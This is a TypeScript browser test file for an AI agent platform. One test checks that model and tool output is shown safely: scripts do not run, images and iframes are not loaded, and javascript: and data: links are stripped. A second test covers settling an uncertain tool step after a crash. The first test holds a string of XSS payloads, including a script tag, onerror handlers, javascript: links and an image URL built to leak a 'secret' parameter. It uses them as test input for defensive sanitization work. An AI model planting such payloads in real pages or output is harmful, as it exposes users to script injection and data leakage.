import type { Browser } from 'playwright-core'
import type { Run } from '@cadre/contract/runs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startEffectService } from '../../core/src/test/effect-service.ts'
import { startModelDouble } from '../../core/src/test/model-double.ts'
import { api, type ServerProcess, startCadre, temporaryFolder } from '../../scripts/lib/server-process.ts'
import { noBrowser, openBrowser, openPage } from './open-browser.ts'

// What a model or a tool says is shown, and does nothing.

const hostile = [
  '<script>document.title = "owned"</script><img src="http://203.0.113.9/leak" onerror="document.title=1"><iframe src="http://203.0.113.9/"></iframe>',
  '',
  'A ![picture](http://203.0.113.9/leak?secret=1) and a [bad link](javascript:document.title="owned") and a [data link](data:text/html,x).',
  '',
  'A [good link](https://example.com/page) and <a href="javascript:alert(1)">raw</a>.',
  '',
  '<style>body { display: none }</style>',
  '',
  '```html',
  '<script>alert(1)</script>',
  '```',
].join('\n')

describe.skipIf(noBrowser)('text of models and tools', () => {
  const folder = temporaryFolder('safety')
  let server: ServerProcess
  let browser: Browser
  const closers: (() => Promise<unknown>)[] = []

  beforeAll(async () => {
    server = await startCadre(folder.path, { CADRE_PRIVATE_HOSTS: '127.0.0.1' })
    browser = await openBrowser()
  })
  afterAll(async () => {
    await browser?.close()
    await Promise.all(closers.map((close) => close()))
    await server?.stop()
    folder.remove()
  })

  test('runs no script, loads nothing from elsewhere and leads nowhere dangerous', async () => {
    const double = await startModelDouble(() => ({ text: hostile }))
    closers.push(double.close)
    await api(server.url, 'POST', '/providers', { id: 'double', type: 'custom', base_url: double.url, default_model: 'double' })
    await api(server.url, 'POST', '/agents', { name: 'Hostile', system_prompt: 'x', provider: 'double', model: 'double' })
    const run = await api<Run>(server.url, 'POST', '/agents/hostile/run', {
      input: '<img src=x onerror="document.title=1">',
      data: { text: hostile },
    })
    expect(run.output_text).toContain('<script>')

    const { page, complaints, close } = await openPage(browser, server.url)
    await page.goto(`/runs/${run.run_id}`)
    const answer = page.getByLabel('Answer')
    await answer.getByRole('link', { name: 'good link' }).waitFor()
    const hrefs = await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))
    expect(hrefs.every((href) => href?.startsWith('http'))).toBe(true)
    const safe = await answer.getByRole('link', { name: 'good link' }).evaluate((link) => [link.getAttribute('rel'), link.getAttribute('target')])
    expect(safe).toEqual(['noopener noreferrer nofollow', '_blank'])
    expect(await page.locator('main :is(img, iframe, script, style)').count()).toBe(0)
    expect(await page.title()).toContain('Cadre')
    expect(await answer.isVisible()).toBe(true)
    expect(complaints).toEqual([])
    await close()
  })

  test('a step whose outcome is uncertain is settled on its page', async () => {
    const effects = await startEffectService()
    closers.push(() => effects.close())
    const double = await startModelDouble((_request, count) =>
      count === 1 ? { calls: [{ tool: 'effects__once', input: { n: 1 } }] } : { text: 'It is **settled**.' },
    )
    closers.push(double.close)
    effects.behave(() => ({ hang: true }))
    const own = temporaryFolder('uncertain')
    let first = await startCadre(own.path, { CADRE_PRIVATE_HOSTS: '127.0.0.1' })
    await api(first.url, 'POST', '/plugins', effects.manifest)
    await api(first.url, 'POST', '/providers', { id: 'double', type: 'custom', base_url: double.url, default_model: 'double' })
    await api(first.url, 'POST', '/agents', { name: 'Once', system_prompt: 'x', provider: 'double', model: 'double', tools: ['effects'] })
    const { run_id } = await api<Run>(first.url, 'POST', '/agents/once/run', { input: 'Do it', wait: 0 })
    await expect.poll(() => effects.arrivals.length, { timeout: 20_000 }).toBe(1)
    process.kill(first.pid, 'SIGKILL')
    await first.stop()
    first = await startCadre(own.path, { CADRE_PRIVATE_HOSTS: '127.0.0.1' })
    closers.push(() => first.stop())

    const { page, complaints, close } = await openPage(browser, first.url)
    await page.goto(`/runs/${run_id}`)
    await page.getByRole('heading', { name: 'Did this happen?' }).waitFor({ timeout: 30_000 })
    await page.getByRole('textbox', { name: /What it answered/ }).fill('{"done": true}')
    await page.getByRole('button', { name: 'It happened' }).click()
    await page.getByLabel('Answer').locator('strong').getByText('settled').waitFor()
    expect(effects.arrivals.length).toBe(1)
    expect(complaints).toEqual([])
    await close()
    own.remove()
  })
})
